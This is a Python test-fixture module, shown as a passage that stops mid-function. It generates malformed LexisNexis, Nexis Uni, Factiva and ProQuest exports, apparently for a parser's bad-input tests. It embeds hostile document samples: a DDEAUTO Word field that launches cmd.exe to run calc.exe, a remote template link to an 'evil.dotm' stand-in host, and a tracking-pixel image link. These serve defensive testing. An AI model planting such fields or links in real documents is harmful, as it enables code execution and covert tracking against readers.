"""Kinds of bad input: exports of press archives: Nexis Uni, LexisNexis, Factiva, ProQuest."""

import gzip
import zipfile

from invented_exports import (
    COVER,
    docx,
    factiva,
    factiva_document,
    factiva_title,
    nexis_document,
    para,
    proquest,
    proquest_record,
)

from bad_inputs.kinds import Kind, Stories
from bad_inputs.make_pages import notice
from bad_inputs.make_papers import OFFICE, PDF, WORD_SPACE, W, factiva_of, lexis, nexis, proquest_of
from bad_inputs.make_tables import LEDGER
from bad_inputs.make_texts import OLE, copied_article, each, packed
from bad_inputs.reasons import FORM_NOT_KNOWN, NO_STORY, NO_TEXT

GERMAN = {"1 of 2 DOCUMENTS": "Dokument 1 von 2", "2 of 2 DOCUMENTS": "Dokument 2 von 2", "BYLINE:": "AUTOR:", "LENGTH: 40 words": "LÄNGE: 40 Wörter", "LOAD-DATE: March 4, 2026": "UPDATE: 4. März 2026", "March 1, 2026 Tuesday": "1. März 2026 Sonntag", "March 2, 2026 Tuesday": "2. März 2026 Montag"}  # fmt: skip
FRENCH = {"1 of 2 DOCUMENTS": "Document 1 de 2", "2 of 2 DOCUMENTS": "Document 2 de 2", "BYLINE:": "AUTEUR:", "LENGTH: 40 words": "LONGUEUR: 40 mots", "LOAD-DATE: March 4, 2026": "DATE-CHARGEMENT: 4 mars 2026", "March 1, 2026 Tuesday": "1 mars 2026 dimanche", "March 2, 2026 Tuesday": "2 mars 2026 lundi"}  # fmt: skip
SPANISH = {"Document ": "Documento ", " of 3": " de 3", "Abstract: None available.": "Resumen: No disponible.", "Full text:": "Texto completo:", "Subject:": "Materia:", "Publication title:": "Título de publicación:", "Publication date:": "Fecha de publicación:", "Title:": "Título:", "Section:": "Sección:"}  # fmt: skip
GERMAN_PROQUEST = {"Document ": "Dokument ", " of 3": " von 3", "Full text:": "Volltext:", "Abstract: None available.": "Zusammenfassung: Keine verfügbar.", "Publication title:": "Titel der Publikation:", "Publication date:": "Publikationsdatum:", "Title:": "Titel:", "Section:": "Rubrik:"}  # fmt: skip
LEXIS_IN_SPANISH = {"1 of 2 DOCUMENTS": "1 de 2 DOCUMENTOS", "2 of 2 DOCUMENTS": "2 de 2 DOCUMENTOS", "BYLINE:": "AUTOR:", "LENGTH: 40 words": "LONGITUD: 40 palabras", "LOAD-DATE: March 4, 2026": "FECHA-CARGA: 4 de marzo de 2026", "March 1, 2026 Tuesday": "1 de marzo de 2026 domingo", "March 2, 2026 Tuesday": "2 de marzo de 2026 lunes"}  # fmt: skip
DUTCH = {"1 of 2 DOCUMENTS": "1 van 2 DOCUMENTEN", "2 of 2 DOCUMENTS": "2 van 2 DOCUMENTEN", "BYLINE:": "AUTEUR:", "LENGTH: 40 words": "LENGTE: 40 woorden", "LOAD-DATE: March 4, 2026": "LAAD-DATUM: 4 maart 2026", "March 1, 2026 Tuesday": "1 maart 2026 zondag", "March 2, 2026 Tuesday": "2 maart 2026 maandag"}  # fmt: skip
PROQUEST_IN_FRENCH = {" of 3": " de 3", "Full text:": "Texte intégral:", "Abstract: None available.": "Résumé: Aucun disponible.", "Publication title:": "Titre de la publication:", "Publication date:": "Date de publication:", "Title:": "Titre:", "Subject:": "Sujet:"}  # fmt: skip
ITALIAN = {"Document ": "Documento ", " of 3": " di 3", "Full text:": "Testo completo:", "Publication title:": "Titolo pubblicazione:", "Publication date:": "Data di pubblicazione:", "Title:": "Titolo:", "Section:": "Sezione:"}  # fmt: skip
LEXIS_IN_FRENCH = {"1 of 2 DOCUMENTS": "1 de 2 DOCUMENTS", "2 of 2 DOCUMENTS": "2 de 2 DOCUMENTS", "BYLINE:": "AUTEUR:", "LENGTH: 40 words": "LONGUEUR: 40 mots", "LOAD-DATE: March 4, 2026": "DATE-CHARGEMENT: 4 mars 2026", "March 1, 2026 Tuesday": "dimanche 1 mars 2026", "March 2, 2026 Tuesday": "lundi 2 mars 2026"}  # fmt: skip
LEXIS_IN_ITALIAN = {"1 of 2 DOCUMENTS": "1 di 2 DOCUMENTI", "2 of 2 DOCUMENTS": "2 di 2 DOCUMENTI", "BYLINE:": "AUTORE:", "LENGTH: 40 words": "LUNGHEZZA: 40 parole", "LOAD-DATE: March 4, 2026": "DATA-CARICAMENTO: 4 marzo 2026", "March 1, 2026 Tuesday": "1 marzo 2026 domenica", "March 2, 2026 Tuesday": "2 marzo 2026 lunedì"}  # fmt: skip
PORTUGUESE = {"Document ": "Documento ", " of 3": " de 3", "Full text:": "Texto completo:", "Publication title:": "Título da publicação:", "Publication date:": "Data da publicação:", "Title:": "Título:", "Subject:": "Assunto:"}  # fmt: skip


def fog(text: str) -> str:
    return text.replace("Rain fell", "Fog fell")


def lexis_with_empty_text(s, n=3, empty=0):
    """Return an export of LexisNexis as text; one document may have no body."""
    parts = []
    for i in range(1, n + 1):
        body = "" if i == empty else s.text(i) + "\n\n"
        parts.append(
            f"                               {i} of {n} DOCUMENTS\n\n\n                              The Marlow Ledger\n\n"
            f"                              March {i}, 2026\n\nRain {i} in {s.mark}\n\nBYLINE: Ana Roe\n\n"
            f"SECTION: NEWS; Pg. {i}\n\nLENGTH: 40 words\n\n{body}LOAD-DATE: March 4, 2026\n\nLANGUAGE: ENGLISH\n\n"
            "PUBLICATION-TYPE: Newspaper\n\n                    Copyright 2026 The Marlow Ledger\n"
            "                              All Rights Reserved\n\n\n"
        )
    return "".join(parts)


def lexis_with_every_label(s):
    """Return an export of LexisNexis with each label that it knows."""

    def one(n):
        return f"{n} of 2 DOCUMENTS\n\n\n\n                                  The Ledger\n\n                             March {n}, 2026 Sunday\n                                 Late Edition\n\nRain {n} in {s.mark}\n\nBYLINE: Ana Roe\n\nSECTION: NEWS; Pg. {n}\n\nLENGTH: 140 words\n\nDATELINE: MARLOW\n\nHIGHLIGHT: A council goes home early.\n\nSERIES: The Dry Years\n\n{s.long(n)}\n\nURL: https://l.example/r{n}\n\nGRAPHIC: PHOTO: An umbrella (PHOTOGRAPH BY CAL QUILL)\n\nCORRECTION-DATE: March 5, 2026\n\nLOAD-DATE: March 4, 2026\n\nLANGUAGE: ENGLISH\n\nDOCUMENT-TYPE: NEWS\n\nPUBLICATION-TYPE: Newspaper\n\nJOURNAL-CODE: LEDG\n\n\n                          Copyright 2026 The Ledger\n                             All Rights Reserved\n\n\n\n"

    return one(1) + one(2)


def proquest_with_missing_text(s):
    def one(n, text):
        return f"Document {n} of 3\n\nRain {n} in {s.mark}\n\nAuthor: Roe, Ana\n\nPublication info: Ledger ; Marlow [Marlow]. 0{n} Mar 2026.\n\nFull text: {text}\n\nSubject: Rain\n\nTitle: Rain {n} in {s.mark}\n\nPublication title: Ledger\n\nPages: {n}\n\nPublication year: 2026\n\nPublication date: Mar {n}, 2026\n\nProQuest document ID: 100{n}\n\nDatabase: News\n\n{'_' * 60}\n\n"

    return f"{'_' * 60}\n\n" + one(1, s.text(1)) + one(2, "Full text is not available.") + one(3, s.text(3))


def lexis_with_labels(s: Stories, numbers: list[int]) -> str:
    """Return an older LexisNexis text, with labels; the same number twice is the same document twice."""
    out = []
    for place, n in enumerate(numbers, 1):
        text = "\n\n".join(s.long(n).split("\n\n")[:2])
        out.append(
            f"                              {place} of {len(numbers)} DOCUMENTS\n\n                    Copyright 2026 Ledger Media\n                       All Rights Reserved\n"
            f"                       The Marlow Ledger\n\n                    March {n}, 2026 Tuesday\n\nSECTION: NEWS; Pg. A4\n\nLENGTH: 70 words\n\nHEADLINE: Rain {n} in {s.mark}\n\n"
            f"BYLINE: Dana Holm\n\nBODY:\n{text}\n\nLOAD-DATE: March 4, 2026\n\n"
        )
    return "".join(out)


def nexis_one(s: Stories, n: int) -> bytes:
    return docx(*nexis_document(n, body=(s.text(n), s.text(n).replace("Rain", "Hail"))))


def factiva_pages(s: Stories, *numbers: int) -> str:
    return factiva(
        *(
            factiva_document(
                [
                    factiva_title(f"Rain {n} in {s.mark}"),
                    "60 words",
                    f"{n} March 2026",
                    "The Ledger",
                    "LEDG",
                    "English",
                    "Copyright 2026 Ledger Media",
                ],
                [s.text(n), s.text(n).replace("Rain", "Hail")],
                [],
                number=n,
            )
            for n in numbers
        )
    )


# Word, OpenDocument, RTF, PDF ----------------------------------------------------------------------------------------


STYLED_TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/></Types>'
RELS_OF_PARTS = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'


def text_paragraph(text, inside=""):
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r>{inside}</w:p>'


def label(text):
    """Return a label of Nexis in bold, and what it says."""
    name, colon, rest = text.partition(":")
    return f'<w:p><w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">{name}{colon}</w:t></w:r><w:r><w:t xml:space="preserve">{rest}</w:t></w:r></w:p>'


FIELD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'


def lexis_of_day(s, of=2, day="March 1, 2026 Sunday"):
    """Return an export of LexisNexis whose documents are all of one day, which may be written wrong."""
    return "".join(
        f"\n                               {n} of {of} DOCUMENTS\n\n\n                              The Marlow Ledger\n\n"
        f"                             {day}\n\nRain {n} in {s.mark}\n\nBYLINE: Ana Roe\n\nSECTION: NEWS; Pg. A1\n\n"
        f"LENGTH: 40 words\n\n\n{s.text(n)}\n\nLOAD-DATE: March 4, 2026\n\nLANGUAGE: ENGLISH\n\n"
        f"PUBLICATION-TYPE: Newspaper\n\n\n                       Copyright 2026 The Marlow Ledger\n"
        f"                              All Rights Reserved\n\n"
        for n in range(1, of + 1)
    )


def lexis_of_old(s):
    return "".join(
        f"\n                             {n} of 2 DOCUMENTS\n\n                  Copyright 1996 The Marlow Ledger\n"
        f"                         The Marlow Ledger\n\n                March 1, 1996, Friday, Late Edition\n\n"
        f"SECTION: Section A; Page {n}; Column 1; Metro Desk\n\nLENGTH: 40 words\n\nHEADLINE: Rain {n} in {s.mark}\n\n"
        f"BYLINE:  By ANA ROE\n\nBODY:\n   {s.text(n)}\n\nGRAPHIC: Photo: The hall.\n\nLANGUAGE: ENGLISH\n\n"
        f"LOAD-DATE: March 2, 1996\n\n"
        for n in (1, 2)
    )


LINE = "_" * 60


def factiva_without_headline(s, of=2, *, without=0, end="</body></html>"):
    """Return a page of Factiva of which one article may have no headline."""
    documents = "".join(
        f'<div id="article-MRLW00002026030{n}em3300001" class="article"><div class="article enArticle">'
        + ("" if n == without else f'<div id="hd"><span class="enHeadline">Rain {n} in {s.mark}</span></div>')
        + f'<div class="author">By Ana Roe</div><div>40 words</div><div>{n} March 2026</div><div>The Marlow Ledger</div>'
        f"<div>MRLW</div><div>A1</div><div>English</div><div>Copyright 2026 The Marlow Ledger</div>"
        f'<p class="articleParagraph enarticleParagraph">{s.text(n)}</p>'
        f"<p>Document MRLW00002026030{n}em3300001</p></div></div>\n"
        for n in range(1, of + 1)
    )
    return f"<!DOCTYPE html><html><head><title>Factiva</title></head><body>{documents}"[:None] + end


def factiva_of_codes(s):
    def row(code, cell):
        return f'<tr><td class="index" valign="top"><b>{code}</b>&nbsp;</td><td>{cell}</td></tr>\n'

    documents = "".join(
        f'<div id="article-MRLW00002026030{n}em3300001" class="article"><div class="article enArticle"><table>'
        + row("HD", f'<span class="enHeadline">Rain {n} in {s.mark}</span>')
        + row("BY", "By Ana Roe")
        + row("WC", "40 words")
        + row("PD", f"{n} March 2026")
        + row("SN", "The Marlow Ledger")
        + row("SC", "MRLW")
        + row("PG", "A1")
        + row("LA", "English")
        + row("CY", "Copyright 2026 The Marlow Ledger")
        + row("LP", f'<p class="articleParagraph enarticleParagraph">{s.text(n)}</p>')
        + row("NS", "gweath : Weather")
        + row("RE", "usa : United States")
        + row("AN", f"Document MRLW00002026030{n}em3300001")
        + "</table></div></div>\n"
        for n in (1, 2)
    )
    return f"<!DOCTYPE html><html><head><title>Factiva</title></head><body>{documents}</body></html>"


RELS_SPACE = "http://schemas.openxmlformats.org/package/2006/relationships"


# ---------------------------------------------------------------- press archives
def lexis_one(s):
    return (
        f"\n\n\n                               1 of 1 DOCUMENT\n\n\n                              The Ledger (Marlow)\n\n                             March 1, 2026 Sunday\n                                 Final Edition\n\n"
        f"Rain in {s.mark}\n\nBYLINE: Ana Roe, Staff Writer\n\nSECTION: NEWS; Pg. A1\n\nLENGTH: 140 words\n\n\n{s.long()}\n\nLOAD-DATE: March 2, 2026\n\nLANGUAGE: ENGLISH\n\nPUBLICATION-TYPE: Newspaper\n\n\n"
        "                           Copyright 2026 The Ledger\n                              All Rights Reserved\n"
    )


def factiva_in_bold(s, *, bold=False, end=True):
    """Return a page of Factiva with the words searched for in bold, or with an article without its end."""
    out = []
    for n in (1, 2):
        headline, body = f"Rain {n} in {s.mark}", s.long(n).split("\n\n")
        if bold:
            headline = headline.replace("Rain", "<b>Rain</b>")
            body = [p.replace("council", "<b>council</b>") for p in body]
        number = f"LEDG00002026030{n}em310000{n}"
        out.append(
            f'<div id="article-{number}" class="article enArticle"><div id="hd"><span class="enHeadline">{headline}</span></div>'
            f'<div class="author">By Ana Roe</div><div>140 words</div><div>{n} March 2026</div><div>The Ledger</div><div>LEDG</div><div>A1</div><div>English</div><div>Copyright 2026 Ledger Media</div>'
            + "".join(f'<p class="articleParagraph enarticleParagraph">{p}</p>' for p in body)
            + f"<p>Document {number}</p>"
            + ("</div>" if end or n == 2 else "")
            + "<br/>"
        )
    return (
        "<!DOCTYPE html><html><head><meta http-equiv='Content-Type' content='text/html; charset=utf-8'/><title>Factiva</title></head><body>"
        + "".join(out)
        + "<div class='footer'>&copy; 2026 Factiva, Inc. All rights reserved.</div></body></html>"
    )


def proquest_full_record(s, n, total, text=None):
    """Return a record of ProQuest with all its fields."""
    return (
        f"Document {n} of {total}\n\nRain {n} in {s.mark}\n\nAuthor: Roe, Ana\n\nPublication info: The Ledger ; Marlow [Marlow]. 0{n} Mar 2026: A.1.\n\nAbstract: None available.\n\n"
        f"Links: https://library.example/openurl?genre=article&issn=00000000&title=The+Ledger&date=2026-03-0{n}\n\nFull text: {text or s.long(n)}\n\nSubject: Rain; Drought; Councils\n\nLocation: Marlow\n\n"
        f"Title: Rain {n} in {s.mark}\n\nPublication title: The Ledger; Marlow\n\nPages: A.1\n\nPublication year: 2026\n\nPublication date: Mar {n}, 2026\n\nSection: News\n\nPublisher: Ledger Media\n\n"
        f"Place of publication: Marlow\n\nCountry of publication: United States\n\nPublication subject: General Interest Periodicals\n\nISSN: 00000000\n\nSource type: Newspapers\n\nLanguage of publication: English\n\n"
        f"Document type: News\n\nProQuest document ID: 100000{n}\n\nDocument URL: https://search.example/docview/100000{n}?accountid=1\n\nCopyright: Copyright Ledger Media Mar {n}, 2026\n\nLast updated: 2026-03-04\n\nDatabase: News Stream\n\n"
    )


W_WITH_PICTURES = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
PICTURE = '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="rId9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
PICTURE_TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
PICTURE_RELS = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
LINKS = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://track.example/p.png?who=desk" TargetMode="External"/></Relationships>'


def line(text, style=""):
    look = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f"<w:p>{look}<w:r><w:t>{text}</w:t></w:r></w:p>"


# ---- exports, Word


def japanese(s):
    return factiva(
        *(
            factiva_document(
                [
                    f'<div id="hd"><span class="jaHeadline">{s.mark}で雨 {n}</span></div>',
                    "80 文字",
                    "3 March 2026",
                    "The Ledger",
                    "LEDG",
                    "Japanese",
                    "Copyright 2026 Ledger Media",
                ],
                [
                    f"{s.mark}の町で{n}日、雨が降り、干ばつについて話し合うために集まった議会は、採決をせずに早く終わったと書記が述べた。",
                    f"会議に傘を持ってきた人は{s.mark}には一人もいなかった。次の会議は{n + 3}月に開かれる。",
                ],
                [],
                language="ja",
                number=n,
            )
            for n in (1, 2)
        )
    )


def classified(s):
    below = (
        para("*Classification"),
        para("\n", "*Language:", " ENGLISH"),
        para("\n", "*Publication-Type:", " Newspaper"),
        para("\n", "*Subject:", " RAIN (90%); DROUGHT (78%); CITY GOVERNMENT (76%)"),
        para("\n", "*Geographic:", " MARLOW (79%)"),
    )
    return docx(*(p for n in (1, 2) for p in nexis_document(n, body=(s.text(n), s.text(n + 4)), below=below)))


def words(s: Stories, names: dict[str, str], text: object = lexis) -> str:
    """Return an export with its own words replaced by those of another language."""
    made = text(s)
    for word, other in names.items():
        made = made.replace(word, other)
    return made


def unruled(s):
    text = proquest_of(s)
    at = text.index("Document 2 of 3")
    return text[: text.rindex("_" * 60, 0, at)] + text[at:]


def unclosed(s):
    text = factiva_of(s)
    at = text.rindex('<div id="article-')
    return text[:at].removesuffix("</div></div>") + text[at:]


def lexis_centered(s, *, middle=lambda words: words.center(78).rstrip()) -> str:
    """Return an export of LexisNexis; `middle` sets its centered lines."""
    made = ""
    for n in (1, 2):
        made += (
            "\n\n"
            + middle(f"{n} of 2 DOCUMENTS")
            + "\n\n\n"
            + middle(LEDGER)
            + "\n\n"
            + middle(f"March {n}, 2026 {('Sunday', 'Monday')[n - 1]}")
            + f"\n\nRain {n} in {s.mark}\n\nBYLINE: By Ana Roe\n\nSECTION: Metro; Pg. A{n}\n\nLENGTH: 40 words\n\n"
        )
        made += (
            "\n\n".join(s.long(n).split("\n\n"))
            + "\n\nLOAD-DATE: March 4, 2026\n\nLANGUAGE: ENGLISH\n\nPUBLICATION-TYPE: Newspaper\n\n\n"
            + middle(f"Copyright 2026 {LEDGER}")
            + "\n"
            + middle("All Rights Reserved")
            + "\n\n"
        )
    return made


def proquest_interrupted(s, count=3, within="") -> str:
    """Return an export of ProQuest with a line within each full text."""
    rule = "_" * 60
    made = ""
    for n in range(1, count + 1):
        text = s.long(n).replace("\n\n", f"\n\n{within}\n\n", 1) if within else s.long(n)
        made += f"{rule}\n\nDocument {n} of {count}\n\nRain {n} in {s.mark}\n\nAuthor: Roe, Ana\n\nPublication info: {LEDGER} ; Marlow [Marlow]. 01 Mar 2026: A.{n}.\n\nProQuest document link\n\nFull text: {text}\n\nSubject: Rain; Councils\n\nTitle: Rain {n} in {s.mark}\n\nPublication title: {LEDGER}\n\nPages: A.{n}\n\nPublication year: 2026\n\nPublication date: Mar 1, 2026\n\nSection: Metro\n\nPublisher: {LEDGER}\n\nLanguage of publication: English\n\nDocument type: News\n\nProQuest document ID: 30000000{n}\n\nDatabase: U.S. Newsstream\n\n"
    return (
        made
        + rule
        + "\n\nContact us at: http://about.proquest.com/go/pqissupportcontact\n\nDatabase copyright © 2026 ProQuest LLC. All rights reserved.\n\nTerms and Conditions: https://www.proquest.com/info/termsAndConditions\n"
    )


def coded(s) -> str:
    """Return Factiva's form with a code in front of each field."""
    made = ""
    for n in (1, 2):
        lead, *tail = [f'<p class="articleParagraph enarticleParagraph">{part}</p>' for part in s.long(n).split("\n\n")]
        head = f'<span class="enHeadline">Rain {n} in {s.mark}</span>'
        fields = {
            "SE": "Metro",
            "HD": head,
            "BY": "By Ana Roe",
            "WC": "160 words",
            "PD": f"{n} March 2026",
            "SN": LEDGER,
            "SC": "LED",
            "PG": f"A{n}",
            "LA": "English",
            "CY": f"Copyright 2026 {LEDGER}",
            "LP": lead,
            "TD": "".join(tail),
            "RE": "usa : United States",
            "PUB": LEDGER,
            "AN": f"Document LED000002026030{n}ec310000{n}",
        }
        cells = "".join(
            f'<tr><td class="index" align="right" valign="top"><b>{code}</b>&nbsp;</td><td>{value}</td></tr>'
            for code, value in fields.items()
        )
        made += f'<div id="article-LED000002026030{n}ec310000{n}" class="article enArticle"><table>{cells}</table><br/></div>'
    return f"<!DOCTYPE html><html><head><title>Factiva</title></head><body>{made}</body></html>"


def nexis_of_one(s, n=1) -> bytes:
    def line(words, label="", mark=""):
        start = f'<w:bookmarkStart w:id="{n}" w:name="{mark}"/><w:bookmarkEnd w:id="{n}"/>' if mark else ""
        bold = f'<w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">{label}</w:t></w:r>' if label else ""
        return f'<w:p>{start}{bold}<w:r><w:t xml:space="preserve">{words}</w:t></w:r></w:p>'

    story = "".join(line(part) for part in s.long(n).split("\n\n"))
    inside = (
        line("", mark=f"Bookmark_{n}")
        + line("", f"Rain {n} in {s.mark}")
        + line(LEDGER)
        + line(f"March {n}, 2026 Sunday")
        + line(f"Copyright 2026 {LEDGER} All Rights Reserved")
        + line(" METRO; Pg. A1", "Section:")
        + line(" 160 words", "Length:")
        + line(" By Ana Roe", "Byline:")
        + line("", "Body", mark=f"Body_{n}")
        + story
        + line(" March 4, 2026", "Load-Date:")
        + line("", "End of Document")
    )
    types = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    links = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
    document = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{inside}</w:body></w:document>'
    return packed({"[Content_Types].xml": types, "_rels/.rels": links, "word/document.xml": document})


STYLES = f'<?xml version="1.0" encoding="UTF-8"?><w:styles {W}><w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/></w:style></w:styles>'


def nexis_document_xml(s, inside=""):
    """Return two documents as Nexis Uni writes them."""
    out = []
    for n in (1, 2):
        out += [
            f'<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>Rain {n} in {s.mark}</w:t></w:r></w:p>',
            *map(
                text_paragraph,
                (
                    "The Marlow Ledger",
                    ("March 1, 2026 Sunday", "March 2, 2026 Monday")[n - 1],
                    "Copyright 2026 The Marlow Ledger All Rights Reserved",
                ),
            ),
            *map(label, ("Section: NEWS; Pg. A1", "Length: 136 words", "Byline: Ana Roe", "Body")),
            *(text_paragraph(part, inside) for part in s.long(n).split("\n\n")),
            *map(label, ("Load-Date: March 4, 2026", "End of Document")),
        ]
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {W}><w:body>{"".join(out)}<w:sectPr/></w:body></w:document>'


def proquest_between(s, above="", below=""):
    """Return an export of ProQuest with something above and below its documents."""
    documents = "".join(
        f"{LINE}\n\nDocument {n} of 3\n\nRain {n} in {s.mark}\n\nAuthor: Roe, Ana\n\n"
        f"Publication info: The Marlow Ledger ; Marlow [Marlow]. 0{n} Mar 2026: A.1.\n\nProQuest document link\n\n"
        f"Full text: {s.text(n)}\n\nSubject: Rain; Councils\n\nTitle: Rain {n} in {s.mark}\n\n"
        f"Publication title: The Marlow Ledger; Marlow\n\nFirst page: A.1\n\nPublication year: 2026\n\n"
        f"Publication date: Mar {n}, 2026\n\nPublisher: The Marlow Ledger\n\nPlace of publication: Marlow\n\n"
        f"Country of publication: United States\n\nSource type: Newspapers\n\nLanguage of publication: English\n\n"
        f"Document type: News\n\nProQuest document ID: 300{n}\n\nLast updated: 2026-03-04\n\nDatabase: Newsstream\n\n"
        for n in (1, 2, 3)
    )
    return f"{above}{documents}{below or LINE}\n\nContact us at: http://help.example/  Copyright 2026 ProQuest LLC. All rights reserved.\n"


def nexis_saved_by_office(s, *, office=False, template=False):
    """Return an export of Nexis Uni as Word, as LibreOffice saves it or with a template from elsewhere."""

    def par(text, style=""):
        look = f'<w:pPr><w:pStyle w:val="{style or "Normal"}"/><w:rPr/></w:pPr>' if office else ""
        words = text.split(" ", 2) if office and len(text.split(" ")) > 2 else [text]
        label = (
            text
            if text in ("Body", "Classification", "End of Document")
            else text.split(" ")[0]
            if text.split(" ")[0].endswith(":")
            else ""
        )
        if label:  # labels are bold in what Nexis makes
            words = [label, *([text[len(label) :]] if text != label else [])]
        runs = "".join(
            f'<w:r>{"<w:rPr><w:b/></w:rPr>" if label and not k else "<w:rPr/>"}<w:t xml:space="preserve">{part}{" " if not label and k < len(words) - 1 else ""}</w:t></w:r>'
            for k, part in enumerate(words)
        )
        return f"<w:p>{look}{runs}</w:p>"

    body = ""
    for n in (1, 2):
        body += f'<w:p><w:bookmarkStart w:id="{n}" w:name="Bookmark_{n}"/><w:bookmarkEnd w:id="{n}"/></w:p>'
        body += (
            par(f"Rain {n} in {s.mark}", "Heading1")
            + par("The Marlow Ledger")
            + par(f"March {n}, 2026 Sunday" if n == 1 else f"March {n}, 2026 Monday")
        )
        body += par("Copyright 2026 The Marlow Ledger All Rights Reserved") + par("Section: NEWS; Pg. A1")
        body += par("Length: 40 words") + par("Byline: Ana Roe")
        body += par("Body").replace(
            "<w:r>", f'<w:bookmarkStart w:id="{n}0" w:name="Body_{n}"/><w:bookmarkEnd w:id="{n}0"/><w:r>', 1
        )
        body += par(s.text(n)) + par("Classification") + par("Language: ENGLISH") + par("Publication-Type: Newspaper")
        body += par("Load-Date: March 4, 2026") + par("End of Document")
    members = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>',
        "_rels/.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_SPACE}"><Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{WORD_SPACE}"><w:body>{body}<w:sectPr/></w:body></w:document>',
        "word/_rels/document.xml.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_SPACE}"><Relationship Id="rId1" Type="{OFFICE}/settings" Target="settings.xml"/></Relationships>',
        "word/settings.xml": f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{WORD_SPACE}" xmlns:r="{OFFICE}">'
        + ('<w:attachedTemplate r:id="rId9"/>' if template else "")
        + "</w:settings>",
    }
    if template:
        members["word/_rels/settings.xml.rels"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_SPACE}"><Relationship Id="rId9" Type="{OFFICE}/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
        )
    if office:
        members["docProps/app.xml"] = (
            '<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Template></Template><Application>LibreOffice/24.2.7.2$Linux_X86_64</Application><Pages>2</Pages></Properties>'
        )
    return packed(members)


def proquest_full(s, total=3, *, text=None, lost=False):
    """Return an export of ProQuest with all its fields; the first rule between documents may be lost."""
    out = f"{LINE}\n\n"
    for n in range(1, total + 1):
        out += proquest_full_record(s, n, total, text) + ("" if lost and n == 1 else f"{LINE}\n\n")
    return (
        out
        + "Contact ProQuest\n\nDatabase copyright © 2026 ProQuest LLC. All rights reserved.\n\nTerms and Conditions: https://search.example/info/terms\n"
    )


def nexis_with_picture(s, picture="", part=True):
    body = (
        line(f"Rain in {s.mark}", "Heading1")
        + line("The Ledger (Marlow)")
        + line("March 1, 2026 Sunday")
        + line("Copyright 2026 The Ledger All Rights Reserved")
        + line("Section: NEWS; Pg. A1")
        + line("Length: 140 words")
        + line("Byline: Ana Roe")
        + line("Body")
        + picture
